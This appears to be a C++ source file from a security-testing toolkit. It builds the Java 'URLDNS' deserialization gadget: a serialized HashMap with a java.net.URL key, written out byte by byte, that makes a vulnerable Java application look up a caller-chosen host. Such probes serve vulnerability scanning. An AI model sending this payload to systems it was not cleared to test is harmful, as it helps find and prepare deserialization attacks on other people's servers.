#include "dsl/java_gadget.h"

#include "dsl/unicode.h"

namespace m8::dsl {
namespace {

using namespace std::string_view_literals;

// Class descriptions of java.util.HashMap and java.net.URL, up to the length of the host.
constexpr std::string_view kHead =
    "\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16\x60\xd1\x03\x00\x02"
    "F\x00\x0aloadFactorI\x00\x09thresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10"
    "\x00\x00\x00\x01sr\x00\x0cjava.net.URL\x96%76\x1a\xfc\xe4r\x03\x00\x07I\x00\x08hashCode"
    "I\x00\x04portL\x00\x09"
    "authorityt\x00\x12Ljava/lang/String;L\x00\x04"
    "fileq\x00~\x00\x03L\x00\x04hostq\x00~\x00\x03L\x00\x08protocolq\x00~\x00\x03L\x00\x03"
    "refq\x00~\x00\x03xp\xff\xff\xff\xff\xff\xff\xff\xfft\x00"sv;
constexpr std::string_view kAfterHost = "t\x00\x00q\x00~\x00\x05t\x00\x04"sv;
constexpr std::string_view kAfterScheme = "pxt\x00"sv;

struct Parts {
  std::string_view scheme;
  std::string_view host;  ///< with its port
};

Parts parts_of(std::string_view url) {
  const std::size_t colon = url.find("://");
  if (colon == std::string_view::npos) return {};
  Parts parts{url.substr(0, colon), url.substr(colon + 3)};
  parts.host = parts.host.substr(0, parts.host.find_first_of("/?#"));
  parts.host = parts.host.substr(parts.host.rfind('@') + 1);
  return parts;
}

}  // namespace

std::string java_dns_probe(std::string_view url) {
  const Parts parts = parts_of(url);
  std::string out(kHead);
  const auto append_counted = [&out](std::string_view text) {
    append_utf8(out, static_cast<char32_t>(text.size()));
    out += text;
  };
  append_counted(parts.host);
  out.append(kAfterHost).append(parts.scheme).append(kAfterScheme);
  append_counted(url);
  return out + "x";
}

}  // namespace m8::dsl
